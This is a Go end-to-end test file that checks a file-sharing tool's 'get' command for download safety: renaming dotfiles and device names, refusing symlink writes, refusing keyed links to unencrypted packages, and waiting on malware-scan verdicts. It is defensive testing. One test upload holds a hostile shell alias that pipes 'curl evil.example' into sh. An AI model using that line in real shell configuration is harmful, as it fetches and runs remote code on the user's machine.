package e2e

import (
	"bytes"
	"encoding/base64"
	"errors"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"filippo.io/age"
)

// TestGetSafety: what `shipfile get` writes is safe whatever the uploader named it; it
// never writes through a symbolic link; and a link that carries a key is not fetched in
// plaintext from a server that says the package is not encrypted.
func TestGetSafety(t *testing.T) {
	sys := startSystem(t)
	u := newUser(t)
	u.ok(sys.token+"\n", "login", "--url", sys.url)

	t.Run("a stranger's dotfile and device names get safe names in the owner's home", func(t *testing.T) {
		u.t = t
		req := decode[jsonSend](t, u.ok("", "request", "--from", "stranger@example.com", "--json"))
		link := req.Links[0].MagicLink
		token := link[strings.LastIndex(link, "/p/")+3:]
		uploads := map[string]string{
			".bash_aliases": "alias ls='curl evil.example | sh'\n",
			"CON":           "a device name\n",
			"nul.txt":       "another one\n",
			"a:b.txt":       "a colon\n",
		}
		for name, body := range uploads {
			strangerUpload(t, sys, token, name, []byte(body))
		}
		// The owner fetches the request's uploads in their home, as the user did.
		u.dir = u.home
		defer func() { u.dir = "" }()
		got := decode[jsonGetOwned](t, u.ok("", "get", req.Package.Id.String(), "--json"))
		if len(got.Files) != len(uploads) {
			t.Fatalf("get ID fetched %d files, want %d: %+v", len(got.Files), len(uploads), got.Files)
		}
		if _, err := os.Lstat(filepath.Join(u.home, ".bash_aliases")); !errors.Is(err, fs.ErrNotExist) {
			t.Fatalf("get wrote ~/.bash_aliases (%v)", err)
		}
		for written, sent := range map[string]string{"_bash_aliases": ".bash_aliases", "_CON": "CON", "_nul.txt": "nul.txt", "a_b.txt": "a:b.txt"} {
			b, err := os.ReadFile(filepath.Join(u.home, written))
			if err != nil || string(b) != uploads[sent] {
				t.Errorf("%s (sent as %q): %q, %v; want %q", written, sent, b, err, uploads[sent])
			}
		}
		for _, f := range got.Files {
			if filepath.Dir(f.Path) != "." || strings.HasPrefix(filepath.Base(f.Path), ".") {
				t.Errorf("get --json says %q was written to %q", f.Filename, f.Path)
			}
		}
	})

	t.Run("a symbolic link named like the output or its part is not followed", func(t *testing.T) {
		u.t = t
		p, _ := randomFile(t, t.TempDir(), "notes.txt", 32<<10)
		sent := decode[jsonSend](t, u.ok("", "send", p, "--to", "ivy@example.com", "--json"))
		for _, planted := range []string{"notes.txt", "notes.txt.part"} {
			dir := t.TempDir()
			victim := filepath.Join(t.TempDir(), "victim")
			if err := os.WriteFile(victim, []byte("keep me"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(victim, filepath.Join(dir, planted)); err != nil {
				t.Fatal(err)
			}
			r := u.run("", nil, "get", sent.Links[0].MagicLink, "-o", dir)
			if r.code != 1 || !strings.Contains(r.stderr, "symbolic link") {
				t.Fatalf("get with %s a symlink: exit %d, stderr %q; want 1 naming the symbolic link", planted, r.code, r.stderr)
			}
			if b, _ := os.ReadFile(victim); string(b) != "keep me" {
				t.Fatalf("get wrote through the symlink %s: its target holds %d bytes", planted, len(b))
			}
			if fi, err := os.Lstat(filepath.Join(dir, planted)); err != nil || fi.Mode()&fs.ModeSymlink == 0 {
				t.Fatalf("the symlink %s was replaced (%v)", planted, err)
			}
		}
		// A part that points where nothing is yet: opening it to create would make the
		// target.
		dir := t.TempDir()
		target := filepath.Join(t.TempDir(), "created-through-the-link")
		if err := os.Symlink(target, filepath.Join(dir, "notes.txt.part")); err != nil {
			t.Fatal(err)
		}
		if r := u.run("", nil, "get", sent.Links[0].MagicLink, "-o", dir); r.code != 1 || !strings.Contains(r.stderr, "symbolic link") {
			t.Fatalf("get with a dangling notes.txt.part symlink: exit %d, stderr %q", r.code, r.stderr)
		}
		if _, err := os.Lstat(target); !errors.Is(err, fs.ErrNotExist) {
			t.Fatalf("get created %s through the dangling symlink (%v)", target, err)
		}
	})

	t.Run("a link with a key to a package the server calls unencrypted is refused", func(t *testing.T) {
		u.t = t
		p, _ := randomFile(t, t.TempDir(), "plain.bin", 16<<10)
		sent := decode[jsonSend](t, u.ok("", "send", p, "--to", "jo@example.com", "--json"))
		id, err := age.GenerateX25519Identity()
		if err != nil {
			t.Fatal(err)
		}
		dir := t.TempDir()
		before := sys.proxy.downloaded.Load()
		r := u.run("", nil, "get", sent.Links[0].MagicLink+"#"+id.String(), "-o", dir)
		if r.code != 1 || !strings.Contains(r.stderr, "not encrypted: refused") {
			t.Fatalf("get of a keyed link to a plain package: exit %d, stderr %q", r.code, r.stderr)
		}
		if strings.Contains(r.stdout+r.stderr, id.String()) {
			t.Fatal("get printed the link's key")
		}
		if left, _ := os.ReadDir(dir); len(left) != 0 || sys.proxy.downloaded.Load() != before {
			t.Fatalf("a refused get wrote %v, fetched %d bytes", left, sys.proxy.downloaded.Load()-before)
		}
	})
}

// TestGetWaitsForTheScan: with SHIPFILE_SCAN=block and no verdict yet, `get` says it
// waits for the file, up to --wait, and fetches it once it is clean; a file whose scan
// failed is refused at once.
func TestGetWaitsForTheScan(t *testing.T) {
	// No scanner runs: every file stays pending until the test records a verdict, as
	// services/scanner would.
	sys := startSystem(t, "SHIPFILE_SCAN=block")
	u := newUser(t)
	u.ok(sys.token+"\n", "login", "--url", sys.url)
	p, sum := randomFile(t, t.TempDir(), "report.pdf", 64<<10)
	sent := decode[jsonSend](t, u.ok("", "send", p, "--to", "kim@example.com", "--json"))
	link := sent.Links[0].MagicLink
	ctx, conn := dbConn(t, sys)

	dir := t.TempDir()
	r := u.run("", nil, "get", link, "-o", dir, "--wait", "2s")
	if r.code != 1 || !strings.Contains(r.stderr, "waiting for report.pdf: being checked for malware") ||
		!strings.Contains(r.stderr, "report.pdf: still being checked for malware after waiting 2s (scan: pending)") {
		t.Fatalf("get of a pending file with --wait 2s: exit %d, stderr %q", r.code, r.stderr)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Fatalf("a held file left %v", left)
	}

	// Waiting (the default --wait), then the verdict: the file comes.
	cmd, out, _ := u.command("", nil, "get", link, "-o", dir, "--json")
	stderr := &syncBuffer{}
	cmd.Stderr = stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	t.Cleanup(func() { _ = cmd.Process.Kill() })
	waitFor(t, 30*time.Second, "get to say it waits", func() bool {
		return strings.Contains(stderr.String(), "waiting for report.pdf: being checked for malware")
	})
	if _, err := conn.Exec(ctx, "UPDATE files SET scan = 'clean', scanned_at = now() WHERE package_id = $1", sent.Package.Id); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("get after the verdict: %v; stderr %q", err, stderr.String())
		}
	case <-time.After(60 * time.Second):
		t.Fatalf("get did not end within 60 s of the verdict; stderr %q", stderr.String())
	}
	got := decode[jsonGet](t, result{stdout: out.String()})
	if len(got.Files) != 1 || sha256File(t, filepath.Join(dir, "report.pdf")) != sum {
		t.Fatalf("get after the verdict: %+v", got.Files)
	}

	// A file whose scan failed: refused at once, its state named.
	p2, _ := randomFile(t, t.TempDir(), "archive.zip", 16<<10)
	sent2 := decode[jsonSend](t, u.ok("", "send", p2, "--to", "kim@example.com", "--json"))
	if _, err := conn.Exec(ctx, "UPDATE files SET scan = 'error', scanned_at = now() WHERE package_id = $1", sent2.Package.Id); err != nil {
		t.Fatal(err)
	}
	start := time.Now()
	r = u.run("", nil, "get", sent2.Links[0].MagicLink, "-o", t.TempDir())
	if r.code != 1 || !strings.Contains(r.stderr, "archive.zip: not downloaded") || !strings.Contains(r.stderr, "(scan: error") ||
		strings.Contains(r.stderr, "waiting for") {
		t.Fatalf("get of a file whose scan failed: exit %d, stderr %q", r.code, r.stderr)
	}
	if took := time.Since(start); took > 20*time.Second {
		t.Fatalf("get of a file whose scan failed took %s: it waited", took)
	}
}

// TestOwnerGetWaitsForTheScan: in SHIPFILE_SCAN=block the owner's `get ID` of what a
// stranger uploaded waits while the file is pending, fetches it once clean, and fails at
// once on a file that could not be checked.
func TestOwnerGetWaitsForTheScan(t *testing.T) {
	sys := startSystem(t, "SHIPFILE_SCAN=block")
	u := newUser(t)
	u.ok(sys.token+"\n", "login", "--url", sys.url)
	req := decode[jsonSend](t, u.ok("", "request", "--from", "stranger@example.com", "--json"))
	link := req.Links[0].MagicLink
	token := link[strings.LastIndex(link, "/p/")+3:]
	body := []byte("%PDF-1.4 not really\n")
	fileID := strangerUpload(t, sys, token, "invoice.pdf", body)
	pkgID := req.Package.Id.String()
	ctx, conn := dbConn(t, sys)

	dir := t.TempDir()
	r := u.run("", nil, "get", pkgID, "-o", dir, "--wait", "2s")
	if r.code != 1 || !strings.Contains(r.stderr, "waiting for invoice.pdf: being checked for malware") ||
		!strings.Contains(r.stderr, "invoice.pdf: still being checked for malware after waiting 2s (scan: pending)") {
		t.Fatalf("the owner's get of a pending upload with --wait 2s: exit %d, stderr %q", r.code, r.stderr)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Fatalf("a held upload left %v", left)
	}
	if r := u.ok("", "show", pkgID); !strings.Contains(r.stdout, "pending") {
		t.Fatalf("show lacks the upload's scan state:\n%s", r.stdout)
	}

	if _, err := conn.Exec(ctx, "UPDATE files SET scan = 'clean', scanned_at = now() WHERE id = $1", fileID); err != nil {
		t.Fatal(err)
	}
	got := decode[jsonGetOwned](t, u.ok("", "get", pkgID, "-o", dir, "--json"))
	if len(got.Files) != 1 || sha256File(t, filepath.Join(dir, "invoice.pdf")) != hexSHA(body) {
		t.Fatalf("the owner's get of a clean upload: %+v", got.Files)
	}

	// A second upload clamd could not judge: refused at once, its state named.
	fileID = strangerUpload(t, sys, token, "archive.zip", []byte("PK not really"))
	if _, err := conn.Exec(ctx, "UPDATE files SET scan = 'unscannable', scan_signature = 'Heuristics.Encrypted.Zip', scanned_at = now() WHERE id = $1", fileID); err != nil {
		t.Fatal(err)
	}
	if r := u.ok("", "show", pkgID); !strings.Contains(r.stdout, "unscannable: Heuristics.Encrypted.Zip") {
		t.Fatalf("show lacks the unscannable upload's state:\n%s", r.stdout)
	}
	start := time.Now()
	r = u.run("", nil, "get", pkgID, "-o", t.TempDir())
	if r.code != 1 || !strings.Contains(r.stderr, "archive.zip: not downloaded: it could not be checked for malware (scan: unscannable") ||
		strings.Contains(r.stderr, "waiting for") {
		t.Fatalf("the owner's get of an unscannable upload: exit %d, stderr %q", r.code, r.stderr)
	}
	if took := time.Since(start); took > 20*time.Second {
		t.Fatalf("the owner's get of an unscannable upload took %s: it waited", took)
	}
}

// strangerUpload uploads body as name through the request link with token, as the
// request page does (tus creation with the whole body), and returns the file's id.
func strangerUpload(t *testing.T, sys *system, token, name string, body []byte) string {
	t.Helper()
	req, _ := http.NewRequest(http.MethodPost, sys.url+"/api/v1/links/"+token+"/uploads", bytes.NewReader(body))
	req.Header.Set("Tus-Resumable", "1.0.0")
	req.Header.Set("Content-Type", "application/offset+octet-stream")
	req.Header.Set("Upload-Length", strconv64(int64(len(body))))
	req.Header.Set("Upload-Metadata", "filename "+base64.StdEncoding.EncodeToString([]byte(name)))
	resp, err := httpClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated || resp.Header.Get("Shipfile-File-Id") == "" {
		t.Fatalf("upload of %q through the request link: %d %s", name, resp.StatusCode, b)
	}
	return resp.Header.Get("Shipfile-File-Id")
}

// syncBuffer is a bytes.Buffer that a running command writes to while the test reads it.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}
